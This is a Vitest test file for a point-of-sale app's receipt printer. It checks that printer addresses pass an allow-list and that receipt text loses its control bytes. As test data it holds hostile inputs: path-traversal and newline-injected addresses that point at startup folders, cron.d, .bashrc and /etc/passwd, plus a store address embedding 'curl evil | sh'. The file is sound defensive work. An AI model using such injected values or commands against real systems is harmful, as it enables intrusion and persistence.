import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Core } from '../app/compose';
import { loadConfig } from '../app/config';
import { createTestCore, tempDir } from '../../test-support/fixtures';
import { decodeEscPos } from './decoder';
import { buildTestPage } from './receipts';
import { devicePathFor, parseInterface, PrintError } from './transport';

/** Issue 8 (2): the printer address is an allow-list, at save time and at use time; receipt text carries no control bytes. */

let core: (Core & { dataDir: string }) | undefined;
afterEach(() => {
  core?.close();
  core = undefined;
});

const refusedMessage = (s: string) => {
  try {
    parseInterface(s);
  } catch (err) {
    expect(err).toBeInstanceOf(PrintError);
    return (err as PrintError).message;
  }
  throw new Error(`aceitou ${JSON.stringify(s)}`);
};

describe('printer interface allow-list', () => {
  it('accepts only the known forms', () => {
    expect(parseInterface('tcp://192.168.0.50:9100')).toEqual({ kind: 'tcp', host: '192.168.0.50', port: 9100 });
    expect(parseInterface('tcp://impressora.local')).toEqual({ kind: 'tcp', host: 'impressora.local', port: 9100 });
    expect(parseInterface('tcp://[::1]:9100')).toEqual({ kind: 'tcp', host: '::1', port: 9100 });
    for (const d of ['/dev/usb/lp0', '/dev/lp1', '/dev/ttyS0', '/dev/ttyUSB1', '/dev/ttyACM0', 'COM3', 'LPT1', '\\\\.\\COM1', '\\\\CAIXA01\\EPSON']) {
      expect(parseInterface(d)).toEqual({ kind: 'device', path: d });
    }
    expect(parseInterface('printer:EPSON TM-T20')).toEqual({ kind: 'windows', name: 'EPSON TM-T20' });
  });

  it('refuses every other path with a pt-BR message', () => {
    for (const bad of [
      '/tmp/x.sh',
      '/home/caixa/.bashrc',
      '/etc/cron.d/balcao',
      '/dev/usb/lp0/../../../tmp/x.sh',
      '/dev/sda',
      '/dev/ttyS0\n/tmp/x.sh',
      'C:\\Users\\caixa\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat',
      '\\\\servidor\\share\\..\\x.bat',
      'file:///etc/passwd',
      'tcp://host:9100/../x',
      'printer:',
      'printer:..\\..\\x',
      'qualquer coisa',
    ]) {
      expect(refusedMessage(bad)).toMatch(/^Endereço da impressora não reconhecido: .*Por segurança, só são aceitos: tcp:\/\/IP:9100/);
    }
  });

  it('Windows forms only on Windows and /dev only elsewhere (COM1 is not a file in the working folder)', () => {
    expect(devicePathFor('/dev/usb/lp0', 'linux')).toBe('/dev/usb/lp0');
    expect(devicePathFor('COM1', 'win32')).toBe('\\\\.\\COM1');
    expect(() => devicePathFor('COM1', 'linux')).toThrow(/não vale neste sistema/);
    expect(() => devicePathFor('/dev/usb/lp0', 'win32')).toThrow(/não vale neste sistema/);
  });

  it('is refused when saved (settings unchanged)', async () => {
    core = await createTestCore({ log: () => undefined });
    const before = core.services.printing.settings();
    const target = path.join(tempDir(), 'evil.sh');
    const r = await core.dispatch('printing.saveSettings', { ...before, interface: target });
    expect(r).toMatchObject({ ok: false, error: { code: 'printing.badInterface', message: expect.stringContaining('só são aceitos') } });
    expect(core.services.printing.settings().interface).toBe(before.interface);
  });

  it('is refused at use time too (an address from the environment or an older database): nothing written', async () => {
    const dataDir = tempDir();
    const target = path.join(tempDir(), 'evil.sh');
    fs.writeFileSync(target, '#!/bin/sh\n');
    core = await createTestCore({ dataDir, log: () => undefined, config: loadConfig({ BALCAO_DATA_DIR: dataDir, BALCAO_SAMPLE_CATALOG: '0', BALCAO_PRINTER: target }) });
    const job = await core.services.printing.printTest();
    expect(job.status).toBe('failed');
    expect(job.lastError).toContain('só são aceitos');
    // Saved by an older version, straight into the settings row.
    core.db.prepare(`INSERT INTO settings (key, value) VALUES ('printer.settings', ?) ON CONFLICT(key) DO UPDATE SET value = excluded.value`).run(
      JSON.stringify({ ...core.services.printing.settings(), interface: target }),
    );
    const again = await core.services.printing.printTest();
    expect(again.status).toBe('failed');
    expect(fs.readFileSync(target, 'utf8')).toBe('#!/bin/sh\n');
  });
});

describe('receipt text without control characters', () => {
  it('a store name/address with newlines and ESC/POS commands prints as plain text on its own lines', () => {
    const store = {
      name: 'Loja\x1bp\x00\x19\xfa\x1dV\x00',
      cnpj: '',
      address: 'Rua A, 1\n#!/bin/sh\ncurl evil | sh\r\u0085\u2028\u202e',
    };
    const bytes = buildTestPage(store, { type: 'EPSON', paperMm: 80, characterSet: 'PC860_PORTUGUESE', cut: true, drawer: false }, new Date('2026-01-01T12:00:00Z'));
    const d = decodeEscPos(bytes);
    expect(d.drawerPulses).toEqual([]);
    expect(d.cuts).toBe(1);
    expect(d.unknown).toEqual([]);
    for (const l of d.lines) expect(l.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u202e]/);
    // The address stays ONE printed paragraph: its newlines did not start lines of their own.
    expect(d.lines.some((l) => l.text.startsWith('#!/bin/sh'))).toBe(false);
    expect(d.lines.some((l) => l.text.includes('Rua A, 1 #!/bin/sh curl evil | sh'))).toBe(true);
  });
});
